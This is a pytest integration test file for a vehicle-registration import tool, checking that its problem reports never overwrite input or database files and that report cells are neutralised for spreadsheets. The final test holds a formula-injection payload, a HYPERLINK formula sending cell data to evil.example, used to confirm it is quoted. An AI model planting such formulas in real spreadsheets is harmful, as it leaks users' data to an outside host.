"""`carexport import … --report X` never destroys a file, and reports are written only
where they can be, only when needed, and inert for spreadsheets (issue 15)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import Engine

from tests.integration.test_import_feeds import BAD_VIN, V1, V2

GOOD = f"vin,brand\n{V1},比亚迪\n{V2},长城\n"
BAD = f"vin,brand\n{V1},比亚迪\n{BAD_VIN},奇瑞\n"
HEADER = "row,field,value,reason_zh,reason_en"


@pytest.fixture
def files(tmp_path: Path) -> Path:
    """The directory of the input and report files (the SQLite store is beside it)."""
    path = tmp_path / "files"
    path.mkdir()
    return path


def run(
    database_url: str, *args: str, cwd: Path | None = None, user: bool = False
) -> subprocess.CompletedProcess[str]:
    env = {"CAREXPORT_DATABASE_URL": database_url, "PATH": "/usr/bin:/bin", "HOME": "/tmp"}
    command = [sys.executable, "-m", "carexport", "import", "registrations", *args]
    if user and os.geteuid() == 0:
        # As root every directory is writable: run as nobody for a read-only directory.
        command = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *command]
    return subprocess.run(
        command, capture_output=True, text=True, env=env, cwd=cwd, timeout=120, check=False
    )


def one_clear_line(result: subprocess.CompletedProcess[str], *words: str) -> None:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    for word in words:
        assert word in result.stderr


def test_refuses_to_write_the_report_over_the_input_file(database_url: str, tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(BAD, encoding="utf-8")
    result = run(database_url, str(source), "--report", str(source))
    one_clear_line(result, "cannot write the report", "input file")
    assert source.read_text(encoding="utf-8") == BAD


def test_refuses_to_write_the_report_over_the_sqlite_database_and_its_wal(
    sqlite_template: Path, tmp_path: Path
) -> None:
    database = tmp_path / "store.sqlite3"
    shutil.copyfile(sqlite_template, database)
    url = f"sqlite:///{database}"
    source = tmp_path / "bad.csv"
    source.write_text(BAD, encoding="utf-8")
    before = database.read_bytes()
    for target in (database, tmp_path / "store.sqlite3-wal", tmp_path / "store.sqlite3-shm"):
        result = run(url, str(source), "--report", str(target))
        one_clear_line(result, "database file")
    assert database.read_bytes() == before
    assert run(url, str(source)).returncode == 1  # the database still works


def test_refuses_an_existing_file_that_is_not_a_report(database_url: str, tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(BAD, encoding="utf-8")
    notes = tmp_path / "notes.csv"
    notes.write_text("my,own\nnotes,here\n", encoding="utf-8")
    result = run(database_url, str(source), "--report", str(notes))
    one_clear_line(result, "not a carexport report")
    assert notes.read_text(encoding="utf-8") == "my,own\nnotes,here\n"
    # Refused before the import: nothing was loaded from the file's good row.
    result = run(database_url, str(source), "--skip-bad", "--report", str(notes))
    one_clear_line(result, "not a carexport report")
    assert "loaded" not in result.stderr


def test_replaces_an_older_report_through_a_rename(database_url: str, files: Path) -> None:
    source = files / "bad.csv"
    source.write_text(BAD, encoding="utf-8")
    older = files / "problems.csv"
    older.write_text(f"{HEADER}\r\n9,brand,,旧,old\r\n", encoding="utf-8-sig")
    result = run(database_url, str(source), "--report", str(older))
    assert result.returncode == 1, result.stderr
    text = older.read_text(encoding="utf-8-sig")
    assert text.startswith(HEADER)
    assert "3,vin," in text
    assert "old" not in text
    assert sorted(p.name for p in files.iterdir()) == ["bad.csv", "problems.csv"]


def test_an_import_that_stops_with_exit_2_leaves_the_older_report_untouched(
    database_url: str, files: Path
) -> None:
    source = files / "broken.jsonl"
    # A bad row (reported), then a line that is not UTF-8: the file is unusable.
    source.write_bytes(json.dumps({"vin": BAD_VIN}).encode() + b"\n" + b'{"vin": "\xff\xfe"}\n')
    older = files / "broken.report.jsonl"
    content = json.dumps(dict.fromkeys(HEADER.split(","), "x")) + "\n"
    older.write_text(content, encoding="utf-8")
    result = run(database_url, str(source), "--report", str(older))
    one_clear_line(result, "utf-8")
    assert older.read_text(encoding="utf-8") == content
    assert sorted(p.name for p in files.iterdir()) == ["broken.jsonl", "broken.report.jsonl"]


def test_a_clean_file_leaves_no_report(database_url: str, files: Path) -> None:
    source = files / "good.csv"
    source.write_text(GOOD, encoding="utf-8")
    result = run(database_url, str(source))
    assert result.returncode == 0, result.stderr
    assert [p.name for p in files.iterdir()] == ["good.csv"]
    assert "report" not in result.stderr


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A directory another user can reach (pytest's own are private to root)."""
    path = Path(tempfile.mkdtemp(prefix="carexport-reports-test-"))
    path.chmod(0o777)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def test_a_read_only_input_directory_sends_the_report_to_var_reports(
    engine: Engine, database_url: str, shared_dir: Path
) -> None:
    if engine.dialect.name == "sqlite":
        database = shared_dir / "store.sqlite3"
        shutil.copyfile(engine.url.database or "", database)
        database.chmod(0o666)
        database_url = f"sqlite:///{database}"
    inbox = shared_dir / "inbox"
    inbox.mkdir()
    source = inbox / "bad.csv"
    source.write_text(BAD, encoding="utf-8")
    source.chmod(0o644)
    inbox.chmod(0o555)
    work = shared_dir / "work"
    work.mkdir(mode=0o777)
    work.chmod(0o777)

    result = run(database_url, str(source), cwd=work, user=True)

    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    report = work / "var" / "reports" / "bad.csv.report.csv"
    assert str(report) in result.stderr.replace("\n", "")
    assert "3,vin," in report.read_text(encoding="utf-8-sig")
    assert sorted(p.name for p in inbox.iterdir()) == ["bad.csv"]


def test_report_cells_that_a_spreadsheet_would_run_are_quoted(
    database_url: str, tmp_path: Path
) -> None:
    source = tmp_path / "evil.csv"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    source.write_text(
        "vin,brand,export_transfer_count,owner_uscc\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}",x,-5,@SUM(1)\n',
        encoding="utf-8",
    )
    result = run(database_url, str(source))
    assert result.returncode == 1, result.stderr
    import csv

    with (tmp_path / "evil.csv.report.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    values = {row["field"]: row["value"] for row in rows}
    assert values["vin"] == "'" + formula
    assert values["export_transfer_count"] == "'-5"
    assert values["owner_uscc"] == "'@SUM(1)"
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r", row
